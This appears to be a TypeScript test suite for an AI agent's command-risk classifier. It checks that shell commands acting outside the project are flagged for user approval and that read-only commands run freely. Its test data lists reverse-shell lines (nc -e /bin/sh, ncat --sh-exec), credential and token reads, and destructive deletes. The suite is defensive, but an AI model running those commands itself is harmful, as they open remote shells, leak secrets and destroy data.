import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { layOutHome } from "../../base/home.js";
import { inspect } from "./exec.js";

function setup(t: TestContext) {
  const root = realpathSync(mkdtempSync(join(process.cwd(), "dist", "clients-")));
  t.after(() => rmSync(root, { recursive: true, force: true }));
  const project = join(root, "user/project");
  mkdirSync(project, { recursive: true });
  writeFileSync(join(project, "seed.sql"), "insert into people values ('ana');\n");
  writeFileSync(join(project, "reset.sql"), "drop table people;\n");
  writeFileSync(join(project, "order.sql"), "\\! touch x\n");
  const paths = {
    home: layOutHome(join(root, "user/.agent")),
    userHome: join(root, "user"),
    project,
    env: {},
    temporary: [join(root, "tmp")],
  };
  return (line: string) => inspect(line, { ...paths, cwd: project }).risks.map((risk) => risk.class);
}

/** Calls that act outside the project, with their class. */
const ACTS: readonly (readonly [line: string, risk: string])[] = [
  ["hub delete o/r", "cloud"],
  ["heroku apps:destroy x --confirm x", "cloud"],
  ["vercel", "cloud"],
  ["vercel --prod", "cloud"],
  ["npx vercel@latest --prod", "cloud"],
  ["pnpm dlx wrangler@3 deploy", "cloud"],
  ["firebase emulators:exec 'touch x'", "cloud"],
  ["kubectl get secret,pods -o yaml", "cloud"],
  ["kubectl config view --raw", "cloud"],
  ["gh auth status --show-token", "cloud"],
  ["az keyvault secret show --name x", "cloud"],
  ["aws configure get aws_secret_access_key", "cloud"],
  ["rclone -c purge ls", "cloud"],
  ["docker run -it --rm x", "cloud"],
  ["docker exec x sh", "cloud"],
  ["docker -H tcp://h run x", "cloud"],
  ["docker build .", "cloud"],
  ["docker config create ls x", "cloud"],
  ["docker compose up -d", "cloud"],
  ["docker push x", "publish"],
  ["docker system prune -af", "service"],
  ["nerdctl run x", "cloud"],
  ["buildah bud .", "cloud"],
  ["skopeo copy a b", "cloud"],
  ["op read op://x/y", "cloud"],
  ["bw get password x", "cloud"],
  ["pass show x", "cloud"],
  ["secret-tool lookup a b", "cloud"],
  ["security find-generic-password -w x", "cloud"],
  ["cloudflared tunnel --url localhost:1", "cloud"],
  ["ngrok http 80", "cloud"],
  ["tailscale up", "cloud"],
  ["nc -e /bin/sh h 1", "remote"],
  ["ncat --sh-exec sh h 1", "remote"],
  ["launchctl load x", "service"],
  ["systemctl --user daemon-reload", "service"],
  ["systemctl start x", "service"],
  ["loginctl enable-linger", "service"],
  ["systemd-run --user --on-active=1 touch x", "service"],
  ["busctl --user call org.x /x x y", "service"],
  ["psql -h prod -f missing.sql", "sql-destroy"],
  ["psql -f reset.sql", "sql-destroy"],
  ["psql < order.sql", "sql-destroy"],
];

const LOOKS = [
  "docker ps -a",
  "docker -H tcp://h ps",
  "docker logs -f web",
  "docker compose -f x.yaml ps",
  "docker-compose logs web",
  "kubectl -n x get pods",
  "kubectl config view",
  "terraform -chdir=infra validate",
  "npx vercel ls",
  "heroku apps",
  "hub ci-status",
  "aws configure get region",
  "gh -R o/r pr list",
  "op --version",
  "tailscale status",
  "systemctl --user status x",
  "launchctl list",
  "service nginx status",
  "psql < seed.sql",
];

for (const [line, risk] of ACTS)
  test(`a client that acts outside the project is asked about: ${line}`, (t) => {
    const found = setup(t)(line);
    assert.ok(found.some((one) => one === risk) && !found.includes("unknown-program"), found.join(", ") || "nothing");
  });

for (const line of LOOKS)
  test(`a client that only looks runs unasked: ${line}`, (t) => assert.deepEqual(setup(t)(line), []));
